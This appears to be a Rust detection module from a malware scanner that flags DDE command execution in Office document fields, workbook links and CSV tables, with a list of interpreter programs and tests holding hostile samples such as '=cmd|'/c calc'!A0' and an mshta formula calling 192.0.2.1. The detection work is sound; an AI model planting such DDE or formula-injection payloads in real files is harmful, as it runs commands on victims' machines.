//! DDE: fields of documents and formulas of tables that start programs.

/// Programs that DDE links honestly talk to.
const SERVERS: &[&str] = &["excel", "word", "winword", "msaccess", "access", "powerpnt", "powerpoint", "soffice", "paint", "package", "progman"];
/// Programs that run what they are told.
const INTERPRETERS: &[&str] =
    &["cmd", "powershell", "pwsh", "mshta", "rundll32", "regsvr32", "wscript", "cscript", "msiexec", "certutil", "bitsadmin", "forfiles"];
/// Bytes of a table that are looked at.
const PROBE: usize = 4 * 1024 * 1024;

/// The threat name of a field's instruction, as Word shows it (`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`).
pub(super) fn judge_field(instruction: &str) -> Option<&'static str> {
    let lower = instruction.trim().to_lowercase();
    let rest = lower.strip_prefix("ddeauto").or_else(|| lower.strip_prefix("dde"))?;
    let server = rest.strip_prefix([' ', '\t', '\u{a0}', '"', '\n', '\r'])?.trim_start_matches([' ', '\t', '\u{a0}', '"', '\n', '\r']);
    // A nested QUOTE puts the words together from character codes.
    if interpreter(rest) || rest.contains("quote ") {
        return Some("Heur.Document.DDE");
    }
    let name = server.split(['.', ' ', '"', '\\', '|']).next().unwrap_or_default();
    (!SERVERS.contains(&name) || server.contains("..\\")).then_some("Heur.Document.DDE")
}

/// The threat name of a DDE service and topic (a part of a workbook that links to other programs).
pub(super) fn judge_service(service: &str, topic: &str) -> Option<&'static str> {
    judge_field(&format!("dde {service} {topic}"))
}

/// The threat name of a table in text: a cell that begins as a formula does and calls an interpreter by DDE.
pub(super) fn judge_table(content: &[u8]) -> Option<String> {
    let text = content.get(..PROBE).unwrap_or(content);
    memchr::memchr_iter(b'|', text).take(100_000).find(|at| is_call(text, *at)).map(|_| "Heur.Table.DDE".into())
}

/// `=cmd|'/c …`: an interpreter in front of the bar, a quote behind it, and a formula's sign at the beginning of the cell.
fn is_call(text: &[u8], bar: usize) -> bool {
    let quote = text.get(bar + 1..(bar + 4).min(text.len())).unwrap_or_default().trim_ascii_start().first() == Some(&b'\'');
    let before = text.get(bar.saturating_sub(200)..bar).unwrap_or_default();
    let cell = before.rsplit(|b| matches!(b, b'\n' | b'\r' | b',' | b';' | b'\t' | b'"')).next().unwrap_or_default().trim_ascii();
    let formula = matches!(cell.first(), Some(b'=' | b'+' | b'-' | b'@'));
    quote && formula && INTERPRETERS.iter().any(|name| cell.to_ascii_lowercase().ends_with(name.as_bytes()))
}

fn interpreter(text: &str) -> bool {
    text.split(|c: char| !c.is_ascii_alphanumeric()).any(|word| INTERPRETERS.contains(&word))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields() {
        for hostile in [
            "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"",
            " dde \"notepad\" \"x\"",
            "DDEAUTO excel \"..\\\\..\\\\x\" \"powershell -enc\"",
            "DDE \"C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\x.exe\"",
            "DDEAUTO QUOTE 99 109 100",
        ] {
            assert!(judge_field(hostile).is_some(), "{hostile}");
        }
        for honest in ["DDEAUTO Excel.Sheet.8 \"C:\\\\My Documents\\\\Book1.xls\" Sheet1!R1C1 \\a \\r", "PAGE", "HYPERLINK \"cmd\"", "DDEPTH", "dde"]
        {
            assert_eq!(judge_field(honest), None, "{honest}");
        }
        assert!(judge_service("cmd", "/c calc").is_some());
        assert_eq!(judge_service("Excel", "Book1.xls"), None);
    }

    #[test]
    fn tables() {
        for hostile in ["name,=cmd|'/c calc'!A0\n", "\"@PowerShell| '-x'!A1\"", "a\tb\n+1+mshta|'http://192.0.2.1'!_xlbgnm.A1"] {
            assert!(judge_table(hostile.as_bytes()).is_some(), "{hostile}");
        }
        for honest in ["| a | 'b' |\n", "x = cmd | 'y'\n cat a|'b'", "run cmd|'/c' there", "=a|'b'!c"] {
            assert_eq!(judge_table(honest.as_bytes()), None, "{honest}");
        }
    }
}
